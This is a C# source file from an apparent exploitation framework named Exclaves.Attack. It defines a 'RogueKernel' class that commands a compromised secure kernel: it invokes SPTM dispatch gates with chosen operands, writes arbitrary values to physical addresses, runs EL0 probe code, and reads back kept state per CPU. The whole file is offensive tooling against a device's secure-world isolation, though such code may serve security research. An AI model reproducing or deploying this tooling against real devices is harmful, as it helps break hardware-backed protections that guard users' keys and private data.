using System;
using System.Runtime.InteropServices;
using Exclaves.Abi;
using Exclaves.RogueKernel;

namespace Exclaves.Attack;

/// <summary>What a rogue kernel answered: done, an exception, or the world behind it has closed.</summary>
internal readonly record struct RogueAnswer(ulong Status, ulong X1, ulong X2, ulong X3)
{
    private const ulong Refused = 0x5245_4655;

    public bool IsDone => Status == 0;

    /// <summary>An exception of SK's own: ESR_EL1 in x1, FAR_EL1 in x2.</summary>
    public bool IsException => Status == Refused;

    /// <summary>SPTM has ended the secure world, or will say so in a second.</summary>
    public bool IsClosed => Status is Tee.ReturnEnded or Tee.RpcForeignInterrupt;

    public ulong ExceptionClass => (X1 >> 26) & 0x3F;

    public override string ToString() => IsException ? $"exception, ESR_EL1 0x{X1:x}"
        : IsClosed ? $"the secure world ended, 0x{X1:x}, 0x{X2:x}, 0x{X3:x}"
        : $"0x{Status:x}, 0x{X1:x}, 0x{X2:x}, 0x{X3:x}";
}

/// <summary>The compromised SK: one command is one yielding call. What it keeps, it keeps for each CPU, so its user stays on one.</summary>
internal sealed partial class RogueKernel
{
    public const ulong Magic = 0x4555_474F_52;
    public const ulong DeviceMemory = 0x100;

    /// <summary>Numbers of rogue.S.</summary>
    public const ulong InstructionSmc = 1;
    public const ulong UserNop = 0;
    public const ulong UserLoad = 13;

    private const ulong WindowBytes = 0x1_0000;
    private const ulong UserWindow = 0x2000;
    private const ulong InstructionBytes = 16;
    private const ulong UserOperand = 9;

    private readonly AttackDevice _device;

    public RogueKernel(AttackDevice device) => _device = device;

    /// <summary>A page of SK's own data that the rogue kernel does not use: the last of its slot.</summary>
    public static ulong OwnPage => Virt.SkBase + Virt.SkSlotBytes - 4096;

    /// <summary>Linux's words x0 to x3 for a command.</summary>
    public static ulong[] Words(RogueCommand command, ulong x2 = 0, ulong x3 = 0) => [Tee.ReturnFromRpc, (ulong)command, x2, x3];

    public RogueAnswer Ask(RogueCommand command, ulong x2 = 0, ulong x3 = 0)
    {
        CallResult result = _device.Call(Words(command, x2, x3));
        return new RogueAnswer(result.X0, result.X1, result.X2, result.X3);
    }

    /// <summary>A call of SPTM; x16 = target, operands from x0 on. The answer's x1 to x3 are its x0 to x2.</summary>
    public RogueAnswer Gate(ulong target, params ReadOnlySpan<ulong> operands)
    {
        PrepareGate(target, operands);
        return Ask(RogueCommand.Gate);
    }

    public RogueAnswer Gate(SkFunction function, params ReadOnlySpan<ulong> operands) => Gate(Dispatch.Target(DispatchTable.SkBootstrap, (uint)function), operands);

    public void PrepareGate(ulong target, params ReadOnlySpan<ulong> operands)
    {
        for (int i = 0; i < 8; i++)
        {
            Ask(RogueCommand.Operand, (ulong)i, i < operands.Length ? operands[i] : 0);
        }

        Ask(RogueCommand.Operand, 8, target);
    }

    /// <summary>Stores to a physical address.</summary>
    public RogueAnswer Store(ulong address, ulong value)
    {
        Ask(RogueCommand.Operand, 0, value);
        return Ask(RogueCommand.Store, address, sizeof(ulong));
    }

    /// <summary>Runs EL0 code with an argument in x0.</summary>
    public RogueAnswer User(ulong probe, ulong argument, ulong state = 0)
    {
        Ask(RogueCommand.Operand, UserOperand, argument);
        return Ask(RogueCommand.User, probe, state);
    }

    /// <summary>Where EL0 finds that code, on a CPU.</summary>
    public static ulong UserCode(int cpu, ulong probe) => (((ulong)cpu + 1) * WindowBytes) + UserWindow + (probe * InstructionBytes);

    /// <summary>The snapshot that the last Hold on this CPU kept.</summary>
    public ulong[] Kept(int words)
    {
        ulong[] kept = new ulong[words];
        for (int i = 0; i < words; i++)
        {
            kept[i] = Ask(RogueCommand.Read, (ulong)i).X1;
        }

        return kept;
    }

    /// <summary>Binds the calling thread to one CPU.</summary>
    public static void StayOn(int cpu)
    {
        ulong mask = 1ul << cpu;
        if (SetAffinity(0, sizeof(ulong), ref mask) != 0)
        {
            throw new InvalidOperationException($"cannot stay on CPU {cpu} (errno {Marshal.GetLastPInvokeError()})");
        }
    }

    [LibraryImport("libc", EntryPoint = "sched_setaffinity", SetLastError = true)]
    private static partial int SetAffinity(int process, nuint bytes, ref ulong mask);
}
